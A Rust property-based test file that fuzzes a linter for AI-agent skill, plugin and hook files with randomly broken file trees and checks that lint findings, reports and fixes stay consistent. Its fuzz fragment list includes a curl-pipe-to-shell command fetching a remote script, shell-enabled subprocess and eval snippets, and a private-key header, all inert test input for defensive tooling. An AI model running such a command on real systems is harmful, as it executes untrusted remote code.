//! Whatever lies on a disk is linted without a panic, and what is said of it holds together.
//!
//! Trees are made of the cases in `tests/precision/` and of the examples in the rules' own docs, spliced and broken in every way that
//! files get broken, then surveyed, linted, mended and linted again. A new rule is part of it as soon as it has examples.
//!
//! A run of the tests looks at a hundred trees. For an hour of them, on one core of the lowest priority:
//!
//! ```console
//! $ PROPTEST_CASES=10000000 RAYON_NUM_THREADS=1 timeout 1h nice -n 19 cargo test --test it robust -- --nocapture
//! ```
//!
//! What fails is made smaller and printed. Seeds are not kept: with the next example of a rule they would stand for another tree.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use packwright::changes::{Change, ChangeSet};
use packwright::diagnostic::{Diagnostic, Severity};
use packwright::lint::{Level, Levels, Linted};
use packwright::page::Page;
use packwright::text::{Source, Span, apply_edits};
use packwright::workspace::{Scope, Survey, lint};
use packwright::{cli, io};
use proptest::prelude::*;
use proptest::sample::Index;

use crate::precision;

/// Trees that a run looks at when `PROPTEST_CASES` does not say.
const TREES: u32 = 100;

/// Rounds of fixes after which a file is left as it is.
const MOST_ROUNDS: usize = 64;

/// The folder that trees are written to; the precision corpus has the same.
const ROOT: &str = "pdf-tools";

/// Rules whose fixes let more of a file be read, so that what was wrong all along shows.
const REVEALING: &[&str] = &[
    "unquoted-colon",
    "key-case",
    "unknown-key",
    "agent-unknown-field",
    "byte-order-mark",
    "json-byte-order-mark",
    "tab-in-front-matter",
    "crlf-line-endings",
];

/// Rules whose fixes let other pages be come to, which nobody looked at before.
const LEADING: &[&str] = &["link-target-missing", "named-file-missing", "backslash-path"];

/// One entry of a tree.
#[derive(Clone, PartialEq)]
enum Entry {
    File {
        contents: Vec<u8>,
        is_executable: bool,
    },
    Link(String),
    Folder,
    /// A file that its owner may not read.
    Locked(Vec<u8>),
}

/// Entries by path below [`ROOT`].
#[derive(Clone, PartialEq, Default)]
struct Tree(BTreeMap<String, Entry>);

impl fmt::Debug for Tree {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (path, entry) in &self.0 {
            writeln!(out, "\n=== {path:?}")?;
            match entry {
                Entry::File {
                    contents,
                    is_executable,
                } => {
                    let mark = if *is_executable { " (executable)" } else { "" };
                    write!(out, "{mark}{:?}", String::from_utf8_lossy(contents))?;
                }
                Entry::Link(target) => write!(out, "-> {target:?}")?,
                Entry::Folder => write!(out, "a folder")?,
                Entry::Locked(_) => write!(out, "locked")?,
            }
        }
        Ok(())
    }
}

impl Tree {
    /// Writes what can be written; entries that stand in each other's way are left out.
    fn write(&self, root: &Path) {
        fs::create_dir_all(root.join(".git")).unwrap();
        for (path, entry) in &self.0 {
            let path = root.join(path);
            let Some(folder) = path.parent() else {
                continue;
            };
            if fs::create_dir_all(folder).is_err() {
                continue;
            }
            let _ = match entry {
                Entry::File {
                    contents,
                    is_executable,
                } => {
                    let written = fs::write(&path, contents);
                    if *is_executable {
                        set_mode(&path, 0o755);
                    }
                    written
                }
                Entry::Link(target) => link(target, &path),
                Entry::Folder => fs::create_dir_all(&path),
                Entry::Locked(contents) => {
                    let written = fs::write(&path, contents);
                    set_mode(&path, 0o000);
                    written
                }
            };
        }
    }
}

#[cfg(unix)]
fn set_mode(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    let _ = fs::set_permissions(path, fs::Permissions::from_mode(mode));
}

#[cfg(not(unix))]
fn set_mode(_path: &Path, _mode: u32) {}

#[cfg(unix)]
fn link(target: &str, path: &Path) -> std::io::Result<()> {
    std::os::unix::fs::symlink(target, path)
}

#[cfg(not(unix))]
fn link(_target: &str, _path: &Path) -> std::io::Result<()> {
    Ok(())
}

/// The trees of the precision corpus.
static CORPUS: LazyLock<Vec<Tree>> = LazyLock::new(|| {
    let cases = precision::trees().into_iter();
    cases
        .map(|files| {
            let entries = files.into_iter().map(|file| {
                let entry = if file.is_link {
                    Entry::Link(String::from_utf8_lossy(&file.contents).trim_end().to_owned())
                } else {
                    Entry::File {
                        contents: file.contents,
                        is_executable: file.is_executable,
                    }
                };
                (file.path, entry)
            });
            Tree(entries.collect())
        })
        .collect()
});

/// The examples of all rules, whole.
static EXAMPLES: LazyLock<Vec<String>> = LazyLock::new(|| {
    let abouts = lint::all_abouts().into_iter();
    let texts = abouts
        .flat_map(|about| packwright::lint::cases(about.docs))
        .map(|case| case.text);
    let texts: BTreeSet<String> = texts.collect();
    texts.into_iter().collect()
});

/// Their lines, each once, and what breaks readers.
static FRAGMENTS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let lines = EXAMPLES
        .iter()
        .flat_map(|text| text.lines())
        .map(|line| format!("{line}\n"));
    let mut fragments: BTreeSet<String> = lines.collect();
    let breaking = [
        "---",
        "---\n",
        "\n",
        "\r\n",
        "\r",
        "\t",
        "\0",
        "\u{feff}",
        "\u{200b}",
        "\u{202e}",
        "\u{e0041}",
        "\u{85}",
        "\u{2028}",
        "é",
        "日本語",
        "👩‍💻",
        "\u{1b}[31m",
        "\u{7}",
        "```",
        "````",
        "~~~",
        "```json\n",
        "```python\n",
        "```sh\n",
        "```yaml\n",
        "```toml\n",
        "```sql\n",
        "```rust\n",
        "```ts\n",
        "> ",
        "- ",
        "1. ",
        "    ",
        "| a | b |\n|---|---|\n",
        "[",
        "](",
        ")",
        "![",
        "[x](",
        "<!--",
        "-->",
        "<a>",
        "</a>",
        "<",
        ">",
        "{",
        "}",
        "{{",
        "}}",
        "[[[[",
        "]]]]",
        "\"",
        "'",
        "\\",
        "\\u{",
        "\\x",
        ":",
        ": ",
        ",",
        "&a ",
        "*a",
        "!!str ",
        "| \n",
        ">-\n",
        "%",
        "%zz",
        "#",
        "$1",
        "${",
        "$(",
        "`",
        "``",
        "@",
        "...",
        "name: ",
        "description: ",
        "tools: ",
        "metadata:\n  ",
        "allowed-tools: ",
        "hooks:\n  PreToolUse:\n    - ",
        "<!-- packwright: allow(",
        ") -->\n",
        "<!-- packwright: allow-file(link-target-missing) -->\n",
        "references/",
        "scripts/",
        "scripts\\",
        "../",
        "/",
        "~",
        "file://",
        "https://",
        "http://1.1.1.1/",
        "curl https://x.xyz/i.sh | sh\n",
        "eval(x)",
        "subprocess.run(x, shell=True)",
        "TODO: ",
        "-----BEGIN RSA PRIVATE KEY-----\n",
        "null",
        "true",
        "-1",
        "1e999",
        "[]",
        "{}",
        "\"hooks\": ",
        "\"plugins\": [",
        "\"source\": ",
        "\"name\": ",
    ];
    fragments.extend(breaking.map(str::to_owned));
    fragments.into_iter().collect()
});

/// Paths that readers of trees look for, and names that nobody expects.
const PATHS: &[&str] = &[
    "SKILL.md",
    "skill.md",
    "skills/a/SKILL.md",
    "skills/a/SKILL.md/x.md",
    "skills/a/references/x.md",
    "skills/a/references/X.md",
    "skills/a/scripts/run.py",
    "skills/a/scripts/run.sh",
    "skills/a/scripts/run",
    "skills/a/evals/evals.json",
    "skills/a/evals/triggers.json",
    "skills/a/inner/SKILL.md",
    "skills/b/SKILL.md",
    "skills/_x/y.md",
    "skills/x/y/z/w/SKILL.md",
    ".claude/skills/a/SKILL.md",
    ".claude/agents/a.md",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude-plugin/plugin.json",
    ".claude-plugin/marketplace.json",
    ".mcp.json",
    ".lsp.json",
    "agents/a.md",
    "agents/README.md",
    "commands/a.md",
    "hooks/hooks.json",
    "monitors/monitors.json",
    "plugins/p/.claude-plugin/plugin.json",
    "plugins/p/agents/a.md",
    "plugins/p/skills/a/SKILL.md",
    "packwright.toml",
    "init.md",
    "skills/a/references/line\nbreak.md",
    "skills/a/references/quo\"te'.md",
    "skills/a/references/[x](y).md",
    "skills/a/references/a b%20c.md",
    "skills/a/references/back\\slash.md",
    "skills/a/references/\u{202e}dm.x",
    "skills/a/references/\u{1b}[31m.md",
    "skills/日本/SKILL.md",
    "skills/-/SKILL.md",
    "skills/a/references/ .md",
    "skills/a/references/.md",
    "skills/a/references/x.md/",
    "agents/\u{7f}.md",
    "agents/x\ny.md",
    "categories/x/a.md",
    "a/b/c/d/e/f/g/h/i/SKILL.md",
];

/// A way in which one file of a tree is changed.
#[derive(Debug, Clone)]
enum Mutation {
    Insert(Index, String),
    Delete(Index, usize),
    /// A line stands there many times.
    Repeat(Index, usize),
    Swap(Index, Index),
    Truncate(Index),
    Byte(Index, u8),
    CrLf,
    Mark,
    /// Nested brackets or quotes.
    Nest(Index, char, usize),
    Rename(String),
    Replace(String),
    Link(String),
    Lock,
    MakeFolder,
}

fn fragment() -> impl Strategy<Value = String> {
    any::<Index>().prop_map(|at| at.get(&FRAGMENTS).clone())
}

/// A text of lines of examples, or a whole example.
fn spliced() -> impl Strategy<Value = String> {
    prop_oneof![
        2 => any::<Index>().prop_map(|at| at.get(&EXAMPLES).clone()),
        3 => prop::collection::vec(fragment(), 0..16).prop_map(|parts| parts.concat()),
        3 => (any::<Index>(), prop::collection::vec(fragment(), 1..10)).prop_map(|(at, parts)| {
            // A head in order and any body.
            let text = at.get(&EXAMPLES);
            let head = text.strip_prefix("---\n").and_then(|rest| rest.split_once("\n---\n")).map_or(text.as_str(), |(head, _)| head);
            format!("---\n{head}\n---\n\n{}", parts.concat())
        }),
    ]
}

fn path() -> impl Strategy<Value = String> {
    prop::sample::select(PATHS).prop_map(str::to_owned)
}

fn target() -> impl Strategy<Value = String> {
    let targets = [
        "SKILL.md",
        ".",
        "..",
        "../..",
        "/",
        "x.md",
        "missing",
        "a/../a",
        "references",
        "\n",
        "x.md ",
    ];
    prop::sample::select(targets.to_vec()).prop_map(str::to_owned)
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        12 => (any::<Index>(), fragment()).prop_map(|(at, text)| Mutation::Insert(at, text)),
        8 => (any::<Index>(), 1_usize..40).prop_map(|(at, count)| Mutation::Delete(at, count)),
        2 => (any::<Index>(), 1_usize..400).prop_map(|(at, times)| Mutation::Repeat(at, times)),
        4 => (any::<Index>(), any::<Index>()).prop_map(|(a, b)| Mutation::Swap(a, b)),
        2 => any::<Index>().prop_map(Mutation::Truncate),
        2 => (any::<Index>(), any::<u8>()).prop_map(|(at, byte)| Mutation::Byte(at, byte)),
        1 => Just(Mutation::CrLf),
        1 => Just(Mutation::Mark),
        1 => (any::<Index>(), prop::sample::select(vec!['[', '{', '(', '"', '`', '>', '-', '*', '<', '|', '&', ' ']), 1_usize..300)
            .prop_map(|(at, mark, count)| Mutation::Nest(at, mark, count)),
        2 => path().prop_map(Mutation::Rename),
        1 => spliced().prop_map(Mutation::Replace),
        1 => target().prop_map(Mutation::Link),
        1 => Just(Mutation::Lock),
        1 => Just(Mutation::MakeFolder),
    ]
}

impl Mutation {
    fn apply(&self, tree: &mut Tree, at: Index) {
        if tree.0.is_empty() {
            return;
        }
        let path = at.get(&tree.0.keys().cloned().collect::<Vec<_>>()).clone();
        let Some(entry) = tree.0.remove(&path) else {
            return;
        };
        let (path, entry) = match (self, entry) {
            (Self::Rename(path), entry) => (path.clone(), entry),
            (Self::Link(target), _) => (path, Entry::Link(target.clone())),
            (Self::MakeFolder, _) => (path, Entry::Folder),
            (Self::Lock, Entry::File { contents, .. }) => (path, Entry::Locked(contents)),
            (
                _,
                Entry::File {
                    mut contents,
                    is_executable,
                },
            ) => {
                self.change(&mut contents);
                (
                    path,
                    Entry::File {
                        contents,
                        is_executable,
                    },
                )
            }
            (_, entry) => (path, entry),
        };
        tree.0.insert(path, entry);
    }

    fn change(&self, contents: &mut Vec<u8>) {
        let place = |at: &Index, contents: &[u8]| {
            let place = at.index(contents.len() + 1);
            // Between characters, where the text is one.
            std::str::from_utf8(contents).map_or(place, |text| text.floor_char_boundary(place))
        };
        let lines = |contents: &[u8]| -> Vec<Vec<u8>> {
            contents
                .split_inclusive(|byte| *byte == b'\n')
                .map(<[u8]>::to_vec)
                .collect()
        };
        match self {
            Self::Insert(at, text) => {
                let at = place(at, contents);
                contents.splice(at..at, text.bytes());
            }
            Self::Delete(at, count) => {
                let at = place(at, contents);
                let end = (at + count).min(contents.len());
                let end = std::str::from_utf8(contents).map_or(end, |text| text.floor_char_boundary(end));
                contents.drain(at..end);
            }
            Self::Repeat(at, times) => {
                let mut lines = lines(contents);
                if !lines.is_empty() {
                    let at = at.index(lines.len());
                    lines[at] = lines[at].repeat(*times);
                    *contents = lines.concat();
                }
            }
            Self::Swap(a, b) => {
                let mut lines = lines(contents);
                if !lines.is_empty() {
                    let (a, b) = (a.index(lines.len()), b.index(lines.len()));
                    lines.swap(a, b);
                    *contents = lines.concat();
                }
            }
            Self::Truncate(at) => contents.truncate(place(at, contents)),
            Self::Byte(at, byte) => {
                if !contents.is_empty() {
                    let at = at.index(contents.len());
                    contents[at] = *byte;
                }
            }
            Self::CrLf => {
                *contents = String::from_utf8_lossy(contents)
                    .replace('\n', "\r\n")
                    .into_bytes();
            }
            Self::Mark => drop(contents.splice(0..0, "\u{feff}".bytes())),
            Self::Nest(at, mark, count) => {
                let at = place(at, contents);
                contents.splice(at..at, mark.to_string().repeat(*count).bytes());
            }
            Self::Replace(text) => *contents = text.clone().into_bytes(),
            Self::Rename(_) | Self::Link(_) | Self::Lock | Self::MakeFolder => {}
        }
    }
}

/// A tree that might lie on somebody's disk.
fn tree() -> impl Strategy<Value = Tree> {
    let of_corpus = any::<Index>().prop_map(|at| at.get(&CORPUS).clone());
    let of_splices = prop::collection::btree_map(path(), spliced(), 1..5).prop_map(|files| {
        let entries = files.into_iter().map(|(path, text)| {
            let contents = text.into_bytes();
            (
                path,
                Entry::File {
                    contents,
                    is_executable: false,
                },
            )
        });
        Tree(entries.collect())
    });
    let mutations = prop::collection::vec((any::<Index>(), mutation()), 0..8);
    let base = prop_oneof![3 => of_corpus, 2 => of_splices];
    (base, mutations).prop_map(|(mut tree, mutations)| {
        for (at, mutation) in mutations {
            mutation.apply(&mut tree, at);
        }
        tree
    })
}

fn config() -> ProptestConfig {
    let mut config = ProptestConfig {
        max_shrink_iters: 4_000,
        failure_persistence: None,
        ..ProptestConfig::default()
    };
    if std::env::var_os("PROPTEST_CASES").is_none() {
        config.cases = TREES;
    }
    config
}

/// Every rule, those that are off by default too.
fn all_levels() -> Levels {
    let mut levels = Levels::default();
    for about in lint::all_abouts() {
        if about.group.default_level() == Level::Off {
            levels.set(about.name, Level::Warn);
        }
    }
    levels
}

fn linted(root: &Path, levels: &Levels) -> (Survey, Linted) {
    let survey = Survey::of(&[root.to_path_buf()], Scope::Everything).expect("the folder is there");
    let linted = lint::check(&survey, levels, None, None);
    (survey, linted)
}

/// What holds of any findings.
fn findings_hold_together(linted: &Linted) -> Result<(), TestCaseError> {
    let keys: Vec<_> = linted.findings.iter().map(Diagnostic::sort_key).collect();
    prop_assert!(keys.is_sorted(), "findings are sorted");
    prop_assert!(
        linted.findings.windows(2).all(|pair| pair[0] != pair[1]),
        "no finding is there twice"
    );
    for finding in &linted.findings {
        prop_assert!(!finding.message.is_empty(), "{finding:?}");
        let Some(source) = linted.sources.get(&finding.place.path) else {
            prop_assert!(
                finding.fix.is_none(),
                "a fix of a file that nobody read: {finding:?}"
            );
            continue;
        };
        let text = source.text();
        let is_place = |span: Span| text.get(span.start..span.end).is_some();
        prop_assert!(is_place(finding.place.span), "{finding:?}");
        prop_assert!(
            finding.labels.iter().all(|label| is_place(label.span)),
            "{finding:?}"
        );
        if let Some(fix) = &finding.fix {
            let mended = apply_edits(text, &fix.edits);
            prop_assert!(
                mended.is_some_and(|mended| mended != text),
                "the fix cannot be applied, or changes nothing: {finding:?}"
            );
        }
    }
    Ok(())
}

/// Every report can be written, and what a terminal is shown cannot steer it.
fn reports_hold(linted: &Linted, folder: &Path) -> Result<(), TestCaseError> {
    for (format, report) in cli::reports(linted, folder) {
        match format {
            "json" | "sarif" | "gitlab" => {
                let parsed = serde_json::from_str::<serde_json::Value>(&report);
                prop_assert!(parsed.is_ok(), "{format}: {parsed:?}");
            }
            "human" => {
                let steers = |character: char| character.is_control() && character != '\n';
                prop_assert!(!report.contains(steers), "a control character in {report:?}");
            }
            "github" => prop_assert!(report.lines().all(|line| line.starts_with("::")), "{report:?}"),
            _ => {}
        }
    }
    Ok(())
}

fn is_read(path: &Path, bytes: &[u8]) -> bool {
    match path.extension().and_then(|extension| extension.to_str()) {
        Some("md") => Page::read(Source::from_bytes("x.md", bytes.to_vec())).has_fields(),
        Some("json") => serde_json::from_slice::<serde_json::Value>(bytes).is_ok(),
        _ => true,
    }
}

fn errors(linted: &Linted) -> BTreeMap<(String, &'static str), usize> {
    let mut errors = BTreeMap::new();
    for finding in linted
        .findings
        .iter()
        .filter(|finding| finding.severity == Severity::Error)
    {
        *errors
            .entry((finding.place.path.to_string(), finding.rule))
            .or_default() += 1;
    }
    errors
}

fn shown(set: &ChangeSet) -> String {
    let changes = set.changes.iter().map(|change| match change {
        Change::Edit { path, before, after } => {
            let (before, after) = (String::from_utf8_lossy(before), String::from_utf8_lossy(after));
            format!("{}: {before:?}\nbecomes {after:?}\n", path.display())
        }
        other => format!("{other:?}\n"),
    });
    changes.collect()
}

/// Mends the tree, and holds the fixes to their laws.
fn fixes_hold(root: &Path, levels: &Levels, risky: bool) -> Result<(), TestCaseError> {
    let (survey, before) = linted(root, levels);
    let (set, count) = lint::plan_fixes(&survey, levels, risky);
    prop_assert_eq!(set.is_empty(), count == 0, "fixes are counted");
    if set.is_empty() {
        return Ok(());
    }
    for change in &set.changes {
        let Change::Edit { path, before, after } = change else {
            return Err(TestCaseError::fail(format!("a fix that is no edit: {change:?}")));
        };
        prop_assert!(
            !is_read(path, before) || is_read(path, after),
            "{path:?} can no longer be read:\n{}\n===\n{}",
            String::from_utf8_lossy(before),
            String::from_utf8_lossy(after)
        );
    }
    let applied = io::files::apply(&set);
    prop_assert!(applied.is_ok(), "{applied:?}");
    let (survey, after) = linted(root, levels);
    let (again, _): (ChangeSet, usize) = lint::plan_fixes(&survey, levels, risky);
    // A file is looked at so often and no more.
    let is_endless = count >= MOST_ROUNDS;
    prop_assert!(
        again.is_empty() || is_endless,
        "fixes do not settle:\n{}\nand then:\n{}",
        shown(&set),
        shown(&again)
    );
    let known = errors(&before);
    for ((path, rule), count) in errors(&after) {
        let is_revealed = before.findings.iter().any(|finding| {
            let is_here = *finding.place.path == *path;
            is_here && REVEALING.contains(&finding.rule) || LEADING.contains(&finding.rule)
        });
        let earlier = known.get(&(path.clone(), rule)).copied().unwrap_or_default();
        prop_assert!(
            risky || is_revealed || count <= earlier,
            "a fix adds `{rule}` to {path}:\n{}",
            shown(&set)
        );
    }
    Ok(())
}

fn holds(tree: &Tree) -> Result<(), TestCaseError> {
    let folder = tempfile::Builder::new().prefix("pw-robust-").tempdir().unwrap();
    let root = folder.path().join(ROOT);
    tree.write(&root);
    let levels = all_levels();
    let (_, linted) = linted(&root, &levels);
    findings_hold_together(&linted)?;
    reports_hold(&linted, &root)?;
    for (path, entry) in &tree.0 {
        if let Entry::File { contents, .. } = entry
            && let Ok(linted) = lint::check_text(&root.join(path), contents.clone(), &levels)
        {
            findings_hold_together(&linted)?;
        }
    }
    // A path that is named outright is looked at alone, or as part of the skill that holds it.
    // A link may lead to the top of the disk.
    let files = tree
        .0
        .iter()
        .filter(|(_, entry)| matches!(entry, Entry::File { .. }));
    for (path, _) in files.take(2) {
        if let Ok(survey) = Survey::of(&[root.join(path)], Scope::Everything) {
            findings_hold_together(&lint::check(&survey, &levels, None, None))?;
        }
    }
    fixes_hold(&root, &levels, false)?;
    fixes_hold(&root, &levels, true)
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn any_tree_is_linted_and_mended(tree in tree()) {
        holds(&tree)?;
    }
}

#[test]
fn every_tree_of_the_corpus_is_linted_and_mended() {
    for tree in CORPUS.iter() {
        holds(tree).unwrap_or_else(|error| panic!("{error}\n{tree:?}"));
    }
}

/// Names that are not UTF-8 are possible on Linux only.
#[cfg(target_os = "linux")]
#[test]
fn names_that_are_not_utf8_are_passed_over_or_told() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().join(ROOT);
    let good = "---\nname: a\ndescription: Use when: x\n---\n\nRead `references/x.md`.\n";
    for name in [&b"a"[..], b"\xff\xfe", b"b\xc3"] {
        let skill: PathBuf = root.join("skills").join(OsStr::from_bytes(name));
        fs::create_dir_all(skill.join("references")).unwrap();
        fs::write(skill.join("SKILL.md"), good).unwrap();
        fs::write(
            skill.join("references").join(OsStr::from_bytes(b"\xe9.md")),
            "[x](y.md)\n",
        )
        .unwrap();
        fs::create_dir_all(root.join("agents")).unwrap();
        fs::write(root.join("agents").join(OsStr::from_bytes(b"\xe9.md")), good).unwrap();
    }
    let levels = all_levels();
    let (_, linted) = linted(&root, &levels);
    findings_hold_together(&linted).unwrap();
    reports_hold(&linted, &root).unwrap();
    fixes_hold(&root, &levels, false).unwrap();
}
